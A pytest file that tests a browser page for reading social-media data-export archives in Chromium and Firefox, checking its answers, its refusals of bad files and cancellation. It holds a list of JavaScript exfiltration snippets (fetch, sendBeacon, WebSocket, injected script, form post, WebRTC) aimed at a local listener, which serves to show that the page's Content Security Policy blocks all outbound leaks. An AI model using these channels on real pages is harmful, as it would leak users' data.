"""The page that reads archives, from a disk and by HTTP, in Chromium and in Firefox."""

import json
import shutil
import socket
import threading
import time
from collections.abc import Iterable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.browser.firefox import FIREFOX, firefox
from tests.browser.site_tabs import (
    ANSWERED,
    EXAMPLE,
    FAULT,
    FORM,
    REFUSED,
    ChromiumTab,
    Tab,
    answer_of_the_command_line,
    chromium_tab,
    document_of,
    keep_files,
    press,
    served,
    until,
)
from tests.site.test_in_pyodide import ARCHIVES, FIXTURES

FOREIGN = sorted((FIXTURES.parent / "cases" / "archives").glob("*/files"))


@pytest.fixture(scope="module")
def new_tab(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Tab]:
    """A tab in each of the two browsers."""
    with ExitStack() as stack:
        if request.param == "chromium":
            yield chromium_tab(request.getfixturevalue("browser"), stack)
        elif FIREFOX:
            yield stack.enter_context(firefox(tmp_path_factory.mktemp("firefox") / "profile"))
        else:
            pytest.skip("no Firefox: apt-get update && apt-get install -y firefox-esr")


@pytest.fixture(scope="module")
def tab(request: pytest.FixtureRequest, new_tab: Tab, page_file: Path) -> Iterator[Tab]:
    """The page in a browser, from a disk or by HTTP; after it is loaded the server is gone."""
    if request.param == "file":
        new_tab.goto(page_file.as_uri())
    else:
        with served(page_file.parent) as (address, asked):
            new_tab.goto(address)
        assert set(asked) <= {"/", "/favicon.ico"}
    keep_files(new_tab)
    yield new_tab


def in_tabs(*tabs: tuple[str, str]) -> pytest.MarkDecorator:
    """Run a test in some browsers, each from somewhere."""
    return pytest.mark.parametrize(("new_tab", "tab"), tabs, indirect=True, scope="module")


ONE, OTHER = ("chromium", "file"), ("firefox", "http")
BOTH, CROSSED = in_tabs(ONE, OTHER), in_tabs(("chromium", "http"), ("firefox", "file"))


def read(tab: Tab, *paths: Path, region: str = "CH") -> dict[str, Any]:
    """Open the start page, choose files, and return the document of the answer."""
    press(tab, "header [data-to=start]")
    tab.evaluate(f"(document.getElementById('region').value = {json.dumps(region)}, true)")
    if paths:
        tab.set_files("#files", *paths)
    else:
        press(tab, "#example")
    until(lambda: tab.evaluate(f"{ANSWERED} || {REFUSED}"))
    assert tab.evaluate(FAULT) == ""
    return document_of(tab)


def has_the_answer_of_the_command_line(tab: Tab, *paths: Path) -> bool:
    document = read(tab, *paths)
    return document == answer_of_the_command_line(document, paths or [EXAMPLE])


@CROSSED
def test_the_sample_has_the_answer_of_the_command_line_wherever_the_page_is_from(tab: Tab) -> None:
    assert has_the_answer_of_the_command_line(tab)


@BOTH
def test_each_answer_is_that_of_the_command_line(tab: Tab, archives: dict[str, Path]) -> None:
    for paths in ((), (FORM,), (archives["linkedin.zip"], archives["instagram.zip"])):
        assert has_the_answer_of_the_command_line(tab, *paths), paths


@BOTH
def test_archives_have_the_answer_of_the_command_line(tab: Tab, tmp_path: Path) -> None:
    """Every sixth of the fixtures and of the cases, others in one browser than in the other.

    That this Python says the same of all of them is shown by `tests/site/test_in_pyodide.py`.
    """
    folders, wrong = [*(FIXTURES / name for name in ARCHIVES), *FOREIGN], []
    for number, folder in enumerate(folders[isinstance(tab, ChromiumTab) :: 12]):
        path = folder
        if folder.is_dir():
            path = Path(shutil.make_archive(str(tmp_path / f"{number}"), "zip", folder))
        if not has_the_answer_of_the_command_line(tab, path):
            wrong.append(folder)
    assert wrong == []


REFUSALS = {
    "half.zip": "Damaged zip archive: half.zip is cut off: download it again.",
    "encrypted.zip": "encrypted.zip is encrypted: unpack it with its password and give the folder",
    "song.mp3": "Not a zip archive: song.mp3: give the zip that you were sent",
    "empty.zip": "empty.zip is empty: download it again.",
}


@BOTH
def test_a_file_that_is_no_archive_is_said_with_what_to_do(
    tab: Tab, archives: dict[str, Path]
) -> None:
    press(tab, "[data-lang=en]")
    for name, said in REFUSALS.items():
        press(tab, "header [data-to=start]")
        tab.set_files("#files", archives[name])
        until(lambda: tab.evaluate(REFUSED))
        assert tab.evaluate(FAULT).startswith(said)
        assert not tab.evaluate(ANSWERED)


@BOTH
def test_reading_can_be_cancelled_and_begun_again(tab: Tab, archives: dict[str, Path]) -> None:
    press(tab, "[data-lang=en]")
    press(tab, "header [data-to=start]")
    tab.set_files("#files", archives["long.zip"])
    until(lambda: tab.evaluate("document.getElementById('bar').value"))
    press(tab, "#cancel")
    assert tab.evaluate("document.getElementById('status').textContent").startswith("Cancelled")
    assert tab.evaluate("document.getElementById('running').hidden")
    assert read(tab)["totals"]["items"] == 15


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """Listen for TCP and UDP on one port; give the address, and what arrives: anything."""
    arrived: list[bytes] = []
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
    ):
        port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", port))

        def accept() -> None:
            while True:
                connection, _ = tcp.accept()
                arrived.append(b"TCP")
                connection.close()
                if stopping:
                    return

        def receive() -> None:
            while udp.recv(2000) != b"stop":
                arrived.append(b"UDP")

        stopping: list[bool] = []
        threads = [threading.Thread(target=each) for each in (accept, receive)]
        for thread in threads:
            thread.start()
        yield f"127.0.0.1:{port}", arrived
        time.sleep(0.5)  # what is under way
        got = list(arrived)
        stopping.append(True)
        udp.sendto(b"stop", ("127.0.0.1", port))
        socket.create_connection(("127.0.0.1", port)).close()
        for thread in threads:
            thread.join()
        arrived[:] = got


WAYS_OUT = {
    "fetch": "fetch('http://HOST/')",
    "XMLHttpRequest": "new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.onload = y; x.onerror = n; x.send(); })",
    "beacon": "navigator.sendBeacon('http://HOST/', 'secret')",
    "socket": "new Promise((y, n) => { const s = new WebSocket('ws://HOST/'); s.onopen = y; s.onerror = n; })",
    "events": "new Promise((y, n) => { const s = new EventSource('http://HOST/'); s.onopen = y; s.onerror = n; })",
    "image": "new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = n; i.src = 'http://HOST/'; })",
    "script": "put('script', 'src')",
    "module": "import('http://HOST/x.js')",
    "frame": "put('iframe', 'src')",
    "object": "put('object', 'data')",
    "style": "put('link', 'href', 'stylesheet')",
    "prefetch": "put('link', 'href', 'prefetch')",
    "preconnect": "put('link', 'href', 'preconnect')",
    "dns": "put('link', 'href', 'dns-prefetch')",
    "worker": "new Worker('http://HOST/w.js')",
    "form": "(() => { const f = document.createElement('form'); f.action = 'http://HOST/'; f.method = 'post'; document.body.append(f); f.submit(); f.remove(); })()",
    "window": "window.open('http://HOST/')",
    "WebRTC": "(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()",
}
PUT = "const put = (tag, name, rel) => new Promise((y) => { const e = document.createElement(tag); if (rel) e.rel = rel; e[name] = 'http://HOST/'; e.onload = e.onerror = y; document.head.append(e); setTimeout(y, 300); });"


def try_to_leak(tab: Tab, host: str, ways: Iterable[str] = WAYS_OUT.values()) -> None:
    """Try each way out of the page."""
    for way in ways:
        attempt = f"(async () => {{ {PUT} try {{ await Promise.race([{way}, new Promise((y) => setTimeout(y, 400))]); }} catch {{}} return true; }})()"
        tab.evaluate(attempt.replace("HOST", host))


@BOTH
def test_nothing_arrives_anywhere(tab: Tab) -> None:
    with listening() as (host, arrived):
        read(tab)
        for link in ("/items", "/guide/linkedin"):
            press(tab, f"#result [data-to='{link}']")
            until(lambda link=link: tab.evaluate("shown") == link)
            press(tab, "header [data-to=start]")
            read(tab)
        chromium = isinstance(tab, ChromiumTab)
        # Firefox opens a connection for it, whatever the policy says, and sends nothing on it
        try_to_leak(tab, host, [WAYS_OUT[n] for n in WAYS_OUT if chromium or n != "preconnect"])
    assert arrived == []
    if isinstance(tab, ChromiumTab):
        assert "Content Security Policy" in tab.said[0]
        tab.said.clear()
    press(tab, "header [data-to=start]")


@pytest.mark.parametrize("new_tab", ["chromium", "firefox"], indirect=True, scope="module")
def test_the_listeners_hear_what_another_page_sends(new_tab: Tab, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("<!doctype html><title>No policy</title>")
    with listening() as (host, arrived), served(tmp_path) as (address, _):
        new_tab.goto(address)
        try_to_leak(new_tab, host, (WAYS_OUT["image"], WAYS_OUT["WebRTC"]))
        until(lambda: {b"TCP", b"UDP"} <= set(arrived))
    if isinstance(new_tab, ChromiumTab):
        new_tab.said.clear()
